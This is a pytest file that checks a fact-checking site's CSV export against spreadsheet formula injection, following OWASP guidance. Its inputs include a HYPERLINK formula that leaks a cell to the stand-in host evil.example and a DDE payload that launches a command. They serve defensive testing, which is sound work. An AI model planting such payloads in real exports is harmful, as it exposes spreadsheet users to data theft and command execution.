"""No cell of downloads/claims.csv is one a spreadsheet would evaluate (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factsite.cli.main import main
from factsite.render.downloads import _csv_line, spreadsheet_safe, spreadsheet_value

# What a spreadsheet evaluates (OWASP's list, after any spaces, and full-width forms), unless it is a number.
EVALUATED = re.compile(r"[\t\r\n\0]|\s*[=+\-@＝＋－＠﹦﹢﹣﹫]")
NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def evaluated(cell: str) -> bool:
    return bool(EVALUATED.match(cell)) and not NUMBER.fullmatch(cell)


def cells(line: str) -> list[str]:
    return next(csv.reader(io.StringIO(line, newline="")))


@pytest.mark.parametrize(
    ("value", "written"),
    [  # OWASP's two examples, https://owasp.org/www-community/attacks/CSV_Injection
        ('=1+2";=1+2', '"\'=1+2"";=1+2"\r\n'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"\r\n'),
    ],
)
def test_owasps_examples_are_written_as_owasp_says(value: str, written: str) -> None:
    assert _csv_line([spreadsheet_safe(value)]) == written


def test_every_cell_is_quoted_and_quotes_inside_are_doubled() -> None:
    assert _csv_line(["a", "", "5", 'say "hi"']) == '"a","","5","say ""hi"""\r\n'


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1",
        "-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-5 percent",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "\0=1+2",
        " =1+2",
        "\u00a0\u3000=1+2",
        "＝1+2",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹦1+2",
        "'=1+2",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_a_single_quote(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_value(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["Plain text", "-5", "-12.5", "", "'Tis the season", "a=b", "5-3", "—dash"])
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert spreadsheet_safe(value) == value
    assert spreadsheet_value(value) == value


@given(st.text())
def test_any_value_round_trips_and_no_cell_is_a_formula(value: str) -> None:
    cell = spreadsheet_safe(value)
    assert spreadsheet_value(cell) == value
    assert not evaluated(cell)
    assert cells(_csv_line([cell, "x"])) == [cell, "x"]


def test_the_built_csv_defuses_hostile_claims_and_round_trips(site_root: Path, tmp_path: Path) -> None:
    path = site_root / "content/claims/river-bridge/ninety-days.yaml"
    text = path.read_text("utf-8").replace(
        "claim: The river bridge was closed for 90 days of repairs before June 1.",
        'claim: "=HYPERLINK(\\"https://evil.example\\", \\"click\\")"',
    )
    path.write_text(text.replace("claimant: the-article", "claimant: mayor"), "utf-8")
    claimant = 'name: "@the,mayor"\nkind: person\nrole: Mayor\n'
    (site_root / "content/claimants/mayor.yaml").write_text(claimant, "utf-8")
    out = tmp_path / "out"
    assert main(["--root", str(site_root), "build", "--out", str(out)]) == 0
    raw = (out / "downloads/claims.csv").read_text("utf-8")
    assert '"\'=HYPERLINK(""https://evil.example"", ""click"")"' in raw
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    bridge = next(r for r in rows if r["id"] == "river-bridge/ninety-days")
    assert spreadsheet_value(bridge["claim"]) == '=HYPERLINK("https://evil.example", "click")'
    assert bridge["claimant"] == "'@the,mayor"
    assert not any(evaluated(cell) for row in rows for cell in row.values())
